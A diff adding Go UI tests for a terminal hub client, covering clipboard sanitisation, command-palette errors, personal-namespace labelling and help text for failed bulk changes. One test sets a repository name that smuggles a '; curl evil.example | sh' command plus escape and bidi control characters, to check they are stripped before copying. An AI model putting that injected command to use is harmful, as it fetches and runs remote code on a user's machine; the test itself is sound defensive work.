@@ -1,0 +1,115 @@
+package ui
+
+import (
+	"encoding/base64"
+	"fmt"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hubtui/hubtui/hubclient"
+	"github.com/hubtui/hubtui/hubclient/hubsim"
+	"github.com/hubtui/hubtui/ui/sanitize"
+)
+
+// TestCopySendsTheSanitisedName: y puts on the clipboard the same clean
+// string the status line shows, never a server name's controls or newlines.
+func TestCopySendsTheSanitisedName(t *testing.T) {
+	d := demoDriver(t)
+	rp := d.repos()
+	evil := rp.l.coll.Items[0]
+	evil.Name = "web\n; curl evil.example | sh \x1b[31m\u202e"
+	rp.l.coll.Replace(0, evil)
+	rp.l.itemsChanged()
+	rp.l.tbl.SetCursor(0)
+	d.key("y")
+	osc := regexp.MustCompile(`\x1b\]52;c;([A-Za-z0-9+/=]+)\x07`)
+	deadline := time.After(5 * time.Second)
+	for {
+		select {
+		case m := <-d.msgs:
+			got := osc.FindStringSubmatch(fmt.Sprintf("%v", m))
+			if got == nil {
+				d.deliver(m)
+				continue
+			}
+			raw, err := base64.StdEncoding.DecodeString(got[1])
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := sanitize.String("acme/" + evil.Name)
+			if string(raw) != want || strings.ContainsAny(string(raw), "\n\x1b\u202e") {
+				t.Fatalf("clipboard got %q, want the sanitised %q", raw, want)
+			}
+			if !strings.Contains(d.app.status, want) {
+				t.Fatalf("status %q does not show what was copied (%q)", d.app.status, want)
+			}
+			return
+		case <-deadline:
+			t.Fatal("no OSC 52 clipboard write after y")
+		}
+	}
+}
+
+// TestPaletteSaysWhatItCannotUse: arguments a command does not take, :ctx
+// without contexts, and a bare repository name completing in the current org.
+func TestPaletteSaysWhatItCannotUse(t *testing.T) {
+	d := demoDriver(t)
+	run := func(line string) {
+		d.key(":")
+		d.typeText(line)
+		d.key("enter")
+	}
+	run("repos extra")
+	if !strings.Contains(d.app.errText, "takes no argument") {
+		t.Fatalf(":repos extra: error %q", d.app.errText)
+	}
+	run("ctx")
+	if !strings.Contains(d.app.errText, "no contexts are configured") || strings.Contains(d.app.errText, "(known: )") {
+		t.Fatalf(":ctx without contexts: error %q", d.app.errText)
+	}
+	name := d.repos().l.coll.Items[0].Name
+	d.key(":")
+	d.typeText("tags " + name[:len(name)-1])
+	d.key("tab")
+	if got := d.app.palette.input.Value(); !strings.HasPrefix(got, "tags "+name[:len(name)-1]) || len(got) <= len("tags "+name[:len(name)-1]) {
+		t.Fatalf("tab after a bare name completed nothing: %q (want tags %s…)", got, name)
+	}
+	d.key("esc")
+}
+
+// TestPersonalNamespaceIsNotCalledAnOrg: a user in no organization sees
+// their own namespace as personal.
+func TestPersonalNamespaceIsNotCalledAnOrg(t *testing.T) {
+	_, url := startSim(t, hubsim.Options{})
+	sess := demoSession(t, url, "olga", "olga")
+	sess.Org = ""
+	d := newDriver(t, Options{Session: sess}, 120, 40)
+	d.until("the personal namespace", func() bool { return d.app.sess.Org == "olga" && d.reposLoaded() })
+	header := strings.Split(d.screen(), "\n")[0]
+	if !strings.Contains(header, "personal: olga") || strings.Contains(header, "org: olga") {
+		t.Fatalf("header %q", header)
+	}
+}
+
+// TestHelpNamesEveryItemOfAFailedBulkChange: the status line cuts, help does not.
+func TestHelpNamesEveryItemOfAFailedBulkChange(t *testing.T) {
+	d := demoDriver(t)
+	d.app.setErr(partialError{total: 5, errs: []error{
+		fmt.Errorf("v1: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
+		fmt.Errorf("v2: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
+		fmt.Errorf("v3: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
+	}})
+	d.key("?")
+	lines := strings.Split(d.screen(), "\n")
+	s := strings.Join(lines[:len(lines)-2], "\n") // the help page, without the status line and footer
+	for _, n := range []string{"v1:", "v2:", "v3:"} {
+		if !strings.Contains(s, n) {
+			t.Fatalf("help does not name %s:\n%s", n, s)
+		}
+	}
+	if strings.Contains(s, "more)") {
+		t.Fatalf("help still says (and N more):\n%s", s)
+	}
+}
